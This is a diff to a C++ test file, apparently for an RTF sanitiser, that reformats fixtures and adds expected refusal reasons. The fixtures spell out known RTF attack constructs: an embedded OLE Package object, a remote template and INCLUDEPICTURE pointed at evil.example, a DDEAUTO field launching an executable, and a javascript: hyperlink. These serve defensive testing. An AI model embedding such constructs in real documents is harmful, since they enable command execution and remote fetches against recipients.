@@ -15,7 +15,8 @@ template <Words content> Bytes with() {
     return letter(content.text);
 }
 
-// An OLE 1.0 object of class "Package" ([MS-OLEDS] 2.2.5) with "evil program"; the digits of the class are P1 in the middle.
+// An OLE 1.0 object of class "Package" ([MS-OLEDS] 2.2.5) with "evil program"; the digits of the class are P1 in the
+// middle.
 constexpr Words package{
     R"({\object\objemb\objw100\objh100{\*\objclass Package}{\*\objdata 0105000002000000080000005061636b61676500)"
     R"(00000000000000000c0000006576696c2070726f6772616d}{\result result}})"};
@@ -28,8 +29,7 @@ constexpr Words linked{
 constexpr Words control{R"({\object\objocx{\*\objdata 0105000002000000050000006576696c00}{\result result}})"};
 constexpr Words outside_template{R"({\*\template http://evil.example/evil.dotm})"};
 constexpr Words dde{R"({\field{\*\fldinst DDEAUTO c:\\\\windows\\\\evil.exe "/c calc"}{\fldrslt result}})"};
-constexpr Words picture{
-    R"({\field{\*\fldinst { in}{cludePicture "http://evil.example/a.png" \\d}}{\fldrslt result}})"};
+constexpr Words picture{R"({\field{\*\fldinst { in}{cludePicture "http://evil.example/a.png" \\d}}{\fldrslt result}})"};
 constexpr Words link{R"rtf({\field{\*\fldinst HYPERLINK "javascript:evil()"}{\fldrslt result}})rtf"};
 constexpr Words binary{R"({\*\evil\bin12 evil bytes }})"};
 constexpr Words store{R"({\*\datastore 6576696c2073746f7265}{\*\themedata 6576696c207468656d65})"};
@@ -48,6 +48,7 @@ Row R01() {
                       .found = {Finding::rtf_object},
                       .gone = {"objdata", "evil program"},
                       .kept = {"words"}}},
+            .also_refused = {Reason::convert_unreadable}, // a real one that LibreOffice does not read
             .never = {"oleObject", "Ole10Native"}};
 }
 
@@ -57,6 +58,7 @@ Row R02() {
                       .found = {Finding::rtf_object, Finding::rtf_obfuscation},
                       .gone = {"objdata", "evil program"},
                       .kept = {"words"}}},
+            .also_refused = {Reason::convert_unreadable}, // a real one whose data swallows its end
             .never = {"oleObject", "Ole10Native"}};
 }
 
@@ -109,14 +111,8 @@ Row R06() {
                       .make = written<"{\\rt words\\par}">,
                       .found = {Finding::rtf_header},
                       .kept = {"words"}},
-                     {.name = "named-otherwise.doc",
-                      .make = with<"">,
-                      .becomes = Type::docx,
-                      .kept = {"words"}},
-                     {.name = "named-otherwise.jpg",
-                      .make = with<"">,
-                      .becomes = Type::docx,
-                      .kept = {"words"}}}};
+                     {.name = "named-otherwise.doc", .make = with<"">, .becomes = Type::docx, .kept = {"words"}},
+                     {.name = "named-otherwise.jpg", .make = with<"">, .becomes = Type::docx, .kept = {"words"}}}};
 }
 
 Row R07() {
@@ -129,7 +125,8 @@ Row R07() {
                       .make = with<store>,
                       .found = {Finding::rtf_binary},
                       .gone = {"evil store", "evil theme"},
-                      .kept = {"words"}}}};
+                      .kept = {"words"}}},
+            .also_refused = {Reason::convert_unreadable}}; // a real one whose groups do not close
 }
 
 Row R08() {
